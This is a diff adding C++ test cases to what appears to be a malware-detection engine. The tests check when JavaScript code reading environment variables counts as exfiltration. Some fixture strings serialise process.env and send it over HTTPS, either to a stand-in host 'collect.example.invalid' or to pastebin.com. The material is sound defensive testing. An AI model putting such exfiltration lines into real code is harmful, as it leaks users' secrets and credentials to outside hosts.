@@ -209,3 +209,41 @@ TEST_CASE("near:N needs the positional evidence inside one window", "[engine][th
   // A negated tag is looked up in the whole file, not only in the window.
   CHECK(correlate(defs, {sig("a", 0), sig("b", 20), sig("c", 9000)}, {}).threats.empty());
 }
+
+TEST_CASE("an environment listing far from a socket is no exfiltration of the environment",
+          "[engine][threats]") {
+  SECTION("option names read from the environment, a file-descriptor socket much later") {
+    auto a = run({{"src/node.js",
+                   "var util = require('util');\n"
+                   "exports.inspectOpts = Object.keys(process.env).filter(function (key) {\n"
+                   "  return /^debug_/i.test(key);\n"
+                   "}).reduce(function (obj, key) { obj[key] = process.env[key]; return obj; }, "
+                   "{});\n" +
+                       filler(3500) +
+                       "function createWritableStdioStream(fd) {\n"
+                       "  var net = require('net');\n"
+                       "  return new net.Socket({ fd: fd, readable: false, writable: true });\n"
+                       "}\n"}});
+    CHECK(has_rule(a, "js-env-dump"));
+    CHECK(has_rule(a, "js-network-module"));
+    CHECK(a.risk < Risk::high);
+  }
+  SECTION("the serialised environment posted right away") {
+    auto a = run(
+        {{"lib/report.js",
+          filler(3000) +
+              "const https = require('https');\n"
+              "const body = JSON.stringify(process.env);\n"
+              "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(body);\n" +
+              filler(3000)}});
+    CHECK(has(a.threats, "exfiltration"));
+    CHECK(a.risk >= Risk::high);
+  }
+  SECTION("to a suspicious host anywhere in the file") {
+    auto a = run({{"lib/report.js", "const data = JSON.stringify(process.env);\n" + filler(6000) +
+                                        "const https = require('https');\n"
+                                        "https.get('https://pastebin.com/raw/x?d=' + data);\n"}});
+    CHECK(has(a.threats, "exfiltration"));
+    CHECK(a.risk >= Risk::high);
+  }
+}
